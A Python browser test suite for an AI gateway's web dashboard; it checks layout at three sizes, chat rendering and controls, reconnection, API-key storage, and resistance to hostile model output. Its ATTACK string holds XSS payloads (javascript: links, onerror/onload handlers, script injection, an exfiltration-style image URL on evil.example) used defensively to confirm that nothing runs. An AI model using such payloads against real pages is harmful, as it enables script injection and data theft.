"""The page of the gateway in a real browser: shown in three sizes for fleets of three sizes, chatted with, attacked.

It needs Chromium and the websocket-client package; the gateway is a small fake one that serves the real files with the real policy.
"""

import argparse
import sys
from pathlib import Path

import page_fleet
from page_browser import Browser, program, wait
from page_gateway import FakeGateway, files

SIZES = {"phone": (390, 844), "tablet": (1024, 768), "desktop": (1600, 1000)}
VIEWS = ["fleet", "requests", "steps", "plan", "log"]
MOST_BYTES = 200_000

ANSWER = (
    "The person asks about pipelines. Three points are enough.",
    "A **pipeline** keeps every device busy:\n\n1. The layers are cut into *stages*, one a device.\n2. While stage 2 works on one micro-batch, stage 1 takes the next.\n"
    "3. Gaps are `bubbles`.\n\n```swift\nfor step in steps {\n    stage.compute(step)\n}\n```\n\n| stage | device | layers |\n|---|---|---|\n| 0 | pi5-01 | 0–9 |\n| 1 | desk-02 | 10–29 |\n\n"
    "More in the [paper](https://arxiv.org/abs/2606.03770).\n",
)

ATTACK = "\n\n".join([
    *page_fleet.ATTACKS,
    "[click](javascript:window.attacked=1) [data](data:text/html,<script>window.attacked=1</script>) [odd](JaVaScRiPt:window.attacked=1)",
    "![picture](https://evil.example/steal.png?secret) ![x](x\" onerror=\"window.attacked=1)",
    "[break](https://a.example/\"onmouseover=\"window.attacked=1)", "<https://a.example/><b onclick=window.attacked=1>x</b>",
    "# <img src=x onerror=window.attacked=1>", "| <svg/onload=window.attacked=1> | b |\n|---|---|\n| <img src=x onerror=window.attacked=1> | `<script>window.attacked=1</script>` |",
    "```<img src=x onerror=window.attacked=1>\n</code></pre><script>window.attacked=1</script>\n```", "- " * 400 + "x", "> " * 400 + "x", "*" * 3000, "[" * 3000,
])


class Checks:
    """Counts what was checked and says what was wrong."""

    def __init__(self):
        self.count, self.failures = 0, []

    def __call__(self, condition, what):
        self.count += 1
        if not condition:
            self.failures.append(what)
            print(f"FAILED: {what}", file=sys.stderr)


def look(tab, check, where, folder=None):
    """What must hold on every page."""
    check(tab.value("document.documentElement.scrollWidth <= innerWidth && document.body.scrollWidth <= innerWidth"), f"{where}: nothing reaches over the side")
    names = "[...document.querySelectorAll('button, a, input, textarea, [role=button]')].filter(e => e.offsetParent && !(e.innerText || e.getAttribute('aria-label') || e.labels?.length || e.textContent))"
    check(tab.value(f"{names}.length === 0"), f"{where}: everything that can be used has a name")
    problems = tab.problems()
    check(problems == [], f"{where}: the console is silent, and said {problems}")
    if folder:
        tab.picture(Path(folder, f"{where}.png"))


def show_fleets(browser, check, folder):
    """Every view in every size for every fleet."""
    for count in (1, 8, 64):
        picture = page_fleet.fleet(count)
        gateway = FakeGateway(picture, ANSWER, steps=page_fleet.steps(picture))
        for size, (width, height) in SIZES.items():
            dark = count == 8 and size != "tablet"
            tab = browser.tab(f"{gateway.url}/#/fleet", width, height, dark=dark, calm=True)
            where = f"{count}-{size}"
            tab.until(f"document.querySelectorAll('.card').length === {count}", f"{where}: not all devices are shown")
            names = tab.value("[...document.querySelectorAll('.card')].map(e => e.getAttribute('aria-label').split(':')[0]).sort()")
            check(names == sorted(picture["devices"]), f"{where}: the devices are those of the fleet")
            check(tab.value("document.querySelector('#health .words').textContent") == "Ready", f"{where}: it says that it is ready")
            inside = "(() => { const box = document.querySelector('.topology').getBoundingClientRect(); return [...document.querySelectorAll('.card .box')].every(e => { const r = e.getBoundingClientRect(); return r.left >= box.left - 1 && r.right <= box.right + 1 && r.bottom <= box.bottom + 1; }); })()"
            check(tab.value(inside), f"{where}: every card is inside the picture")
            apart = "(() => { const all = [...document.querySelectorAll('.card .box')].map(e => e.getBoundingClientRect()); return all.every((a, i) => all.slice(i + 1).every(b => a.right <= b.left + 1 || b.right <= a.left + 1 || a.bottom <= b.top + 1 || b.bottom <= a.top + 1)); })()"
            check(tab.value(apart), f"{where}: no card covers another one")
            look(tab, check, f"{where}-fleet", folder)
            for view in VIEWS[1:]:
                tab.value(f"location.hash = '/{view}'; 1")
                tab.until(f"document.getElementById('{view}').offsetParent !== null && document.getElementById('{view}').innerText.length > 20", f"{where}: {view} shows nothing")
                if view == "steps":
                    tab.until("[...document.querySelectorAll('.gantt-rows .share')].some(e => !e.textContent.startsWith('0'))", f"{where}: no steps are shown")
                look(tab, check, f"{where}-{view}", folder)
            check(gateway.streams[-1][1] == "" and ("", "") not in gateway.streams[-2:-1], f"{where}: steps are asked for only where they are shown")
            tab.close()
        gateway.close()


def chat(browser, check, folder):
    """Asks, stops, edits, asks again; parameters; the keyboard alone."""
    for size, (width, height) in SIZES.items():
        picture = page_fleet.fleet(8)
        gateway = FakeGateway(picture, ANSWER)
        tab = browser.tab(f"{gateway.url}/#/{'chat' if size == 'phone' else 'fleet'}", width, height, dark=size == "tablet")
        tab.until("document.querySelector('#health').classList.contains('ready')", "not ready")
        tab.value("document.getElementById('prompt').focus(); 1")
        tab.type("How does a pipeline work?")
        tab.key("Enter", 13, "\r")
        tab.until("document.querySelector('.assistant .facts')?.textContent.includes('86 tokens · 41.7 tokens/s')", f"{size}: no answer with its figures")
        body = gateway.asked[-1]
        check(body["messages"] == [{"role": "user", "content": "How does a pipeline work?"}] and body["stream"] is True and "temperature" not in body, f"{size}: the request is as it should be")
        check(tab.value("document.querySelector('.assistant .text:not(.thoughts) strong').textContent") == "pipeline", f"{size}: markdown is shown")
        check(tab.value("document.querySelectorAll('.assistant .text:not(.thoughts) pre, .assistant table, .assistant ol li').length") == 5, f"{size}: code, table and list are shown")
        check(tab.value("(f => !f.open && !f.hidden && f.innerText.includes('Thoughts'))(document.querySelector('.assistant .fold'))"), f"{size}: thoughts are folded")
        check(tab.value("document.querySelector('.times').textContent.includes('decode-0')"), f"{size}: it says where the time went")
        check("pipeline" in tab.value("document.getElementById('said').textContent"), f"{size}: a screen reader hears the answer")
        look(tab, check, f"chat-{size}", folder)
        tab.value("document.querySelector('#composer details').open = true; document.getElementById('parameter-temperature').value = '0.4'; document.getElementById('parameter-seed').value = '7'; document.getElementById('system').value = 'Be brief.'; 1")
        look(tab, check, f"parameters-{size}", folder)
        tab.value("[...document.querySelectorAll('.assistant .tools button')].at(-1).click(); 1")
        wait(lambda: len(gateway.asked) == 2, f"{size}: it does not ask again")
        again = gateway.asked[-1]
        check(again["messages"][0] == {"role": "system", "content": "Be brief."} and len(again["messages"]) == 2 and again["temperature"] == 0.4 and again["seed"] == 7, f"{size}: parameters are sent")
        tab.until("document.getElementById('send').textContent === 'Send'", f"{size}: the answer does not end")
        tab.value("document.getElementById('parameter-temperature').value = '9'; document.querySelector('.user .tools button').click(); 1")
        check(tab.value("document.getElementById('prompt').value") == "How does a pipeline work?" and tab.value("document.querySelectorAll('.message').length") == 0, f"{size}: a question can be edited")
        tab.key("Enter", 13, "\r")
        tab.until("document.querySelector('.problem')?.textContent.includes('Temperature must be from 0 to 2')", f"{size}: a wrong parameter is not named")
        check(len(gateway.asked) == 2, f"{size}: what is wrong is not sent")
        tab.value("document.getElementById('parameter-temperature').value = ''; 1")
        gateway.pace = 0.05
        tab.value("[...document.querySelectorAll('.assistant .tools button')].at(-1).click(); 1")
        tab.until("document.querySelector('.assistant .text:not(.thoughts)').textContent.length > 5", f"{size}: nothing comes")
        tab.value("document.getElementById('prompt').focus(); 1")
        tab.key("Escape", 27)
        tab.until("document.querySelector('.assistant .facts').textContent.includes('stopped')", f"{size}: it does not stop")
        wait(lambda: gateway.broken, f"{size}: the server does not notice that nobody reads any more")
        check(tab.problems() == [], f"{size}: the console is silent after stopping")
        tab.close()
        gateway.close()


def attack(browser, check, folder):
    """Nothing that a model or a device says is executed, fetched or followed."""
    names = page_fleet.ATTACKS
    picture = page_fleet.fleet(len(names), names)
    picture["status"]["obstacle"] = names[0]
    picture["gateway"]["model"] = names[0]
    picture["plan"]["relaxations"] = names
    picture["log"]["9"] = [4920, "error", names[1], names[0]]
    picture["requests"][names[0]] = dict(next(iter(picture["requests"].values())), problem=names[1], prefill_replica=names[0])
    for size, (width, height) in SIZES.items():
        gateway = FakeGateway(picture, (ATTACK, ATTACK), steps=page_fleet.steps(picture), pace=0)
        tab = browser.tab(f"{gateway.url}/#/chat", width, height)
        tab.value("document.getElementById('prompt').focus(); 1")
        tab.type(ATTACK)
        tab.key("Enter", 13, "\r")
        tab.until("document.querySelector('.assistant .facts')?.textContent.includes('86 tokens')", f"{size}: no answer", 30)
        tab.value("document.querySelector('.assistant .fold').open = true; 1")
        for view in VIEWS:
            tab.value(f"location.hash = '/{view}'; 1")
            tab.until(f"document.getElementById('{view}').offsetParent !== null", f"{view} is not shown")
            for element in [".card", ".request .id"]:
                tab.value(f"document.querySelectorAll('{element}').forEach(e => e.dispatchEvent(new MouseEvent('click', {{bubbles: true}}))); 1")
            check(tab.foreign(gateway.url) == [], f"attack-{size}-{view}: nothing else is asked")
            look(tab, check, f"attack-{size}-{view}", folder)
        tab.value("location.hash = '/chat'; 1")
        check(tab.value("window.attacked === undefined && Object.prototype.state === undefined"), f"attack-{size}: nothing is executed")
        check(tab.value("document.querySelectorAll('img').length === 1 && document.querySelectorAll('script').length === 1 && document.querySelectorAll('iframe, object, embed').length === 0"), f"attack-{size}: there is nothing but the page's own")
        check(tab.value("[...document.querySelectorAll('#messages a')].every(a => /^(https?|mailto):/.test(a.protocol)) && document.querySelectorAll('#messages a').length > 0"), f"attack-{size}: links lead to the web only")
        check(tab.value("[...document.querySelectorAll('*')].every(e => e.getAttributeNames().every(n => !n.startsWith('on')))"), f"attack-{size}: no element has a handler as an attribute")
        look(tab, check, f"attack-{size}-chat", folder)
        tab.close()
        gateway.close()


def stay(browser, check):
    """Changes, losses of the connection, cancelling, keys."""
    picture = page_fleet.fleet(8)
    gateway = FakeGateway(picture, ANSWER)
    tab = browser.tab(f"{gateway.url}/#/requests", 1600, 1000)
    running = next(name for name, course in picture["requests"].items() if course["state"] == "running")
    tab.until(f"document.querySelectorAll('.request').length === {len(picture['requests'])}", "not all requests are shown")
    tab.value("[...document.querySelectorAll('.request:not(.ended) .danger')].at(-1).click(); 1")
    wait(lambda: gateway.cancelled, "cancelling does not reach the server")
    check(gateway.cancelled[0] in picture["requests"], "the request that is shown is cancelled")
    gateway.push({"requests": {running: None}, "status": {"now_s": 5001}})
    tab.until(f"document.querySelectorAll('.request').length === {len(picture['requests']) - 1}", "a request that has gone stays")
    gateway.push({"status": {"ready": False, "obstacle": "the scheduler is not reachable"}})
    tab.until("document.querySelector('#health .words').textContent === 'the scheduler is not reachable'", "an obstacle is not told")
    gateway.end_streams()
    wait(lambda: len(gateway.streams) == 2, "it does not come back")
    check(gateway.streams == [("", ""), ("s-3", "")], "it says what it has when it comes back")
    gateway.push({"status": {"ready": True, "obstacle": None}})
    tab.until("document.querySelector('#health .words').textContent === 'Ready'", "after coming back it takes no changes")
    tab.value("location.hash = '/fleet'; 1")
    tab.until("document.querySelectorAll('.card').length === 8", "no devices")
    device = next(iter(picture["devices"]))
    tab.value("document.querySelector('.card').focus(); 1")
    tab.key("Enter", 13, "\r")
    tab.until("!document.querySelector('.detail').hidden", "the keyboard does not choose a device")
    gateway.push({"devices": {device: None, "new-one": {"state": "measuring", "host": "h", "memory_usable_bytes": 1 << 30}}})
    tab.until("[...document.querySelectorAll('.card')].some(e => e.getAttribute('aria-label').startsWith('new-one'))", "a device that joins is not shown")
    check(tab.problems() == [], "the console is silent")
    tab.close()
    gateway.close()

    gateway = FakeGateway(picture, ANSWER, key="sk-right")
    tab = browser.tab(f"{gateway.url}/", 1024, 768)
    tab.until("document.getElementById('key-dialog').open", "it does not ask for a key")
    for typed in ["sk-wrong", "sk-right"]:
        tab.until("document.getElementById('key-dialog').open && document.activeElement.id === 'key'", "it does not ask for another key")
        tab.type(typed)
        tab.key("Enter", 13, "\r")
        tab.until("!document.getElementById('key-dialog').open || document.getElementById('key').value === ''", "the dialog stays")
    tab.until("document.querySelectorAll('.card').length === 8", "with the key nothing is shown")
    kept = tab.value("[JSON.stringify(localStorage), document.cookie, location.href, document.documentElement.outerHTML].join().includes('sk-right')")
    check(not kept and tab.value("sessionStorage.length") == 1, "the key is kept in the tab's storage only")
    tab.close()
    gateway.close()


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("--screenshots", help="a folder for pictures of everything")
    arguments.add_argument("--only", help="fleets, chat, attack or stay")
    options = arguments.parse_args()
    if program() is None:
        sys.exit("Chromium is missing: install Debian's chromium")
    if options.screenshots:
        Path(options.screenshots).mkdir(parents=True, exist_ok=True)
    check = Checks()
    size = sum(len(content) for path, (_, content) in files().items() if path != "/favicon.ico")
    check(size <= MOST_BYTES, f"the page has {size} bytes of at most {MOST_BYTES}")
    with Browser() as browser:
        parts = {
            "fleets": lambda: show_fleets(browser, check, options.screenshots), "chat": lambda: chat(browser, check, options.screenshots),
            "attack": lambda: attack(browser, check, options.screenshots), "stay": lambda: stay(browser, check),
        }
        for name, part in parts.items():
            if options.only in (None, name):
                part()
    if check.failures:
        sys.exit(f"{len(check.failures)} of {check.count} checks failed")
    print(f"the page: {check.count} checks passed, {size} bytes")


if __name__ == "__main__":
    main()
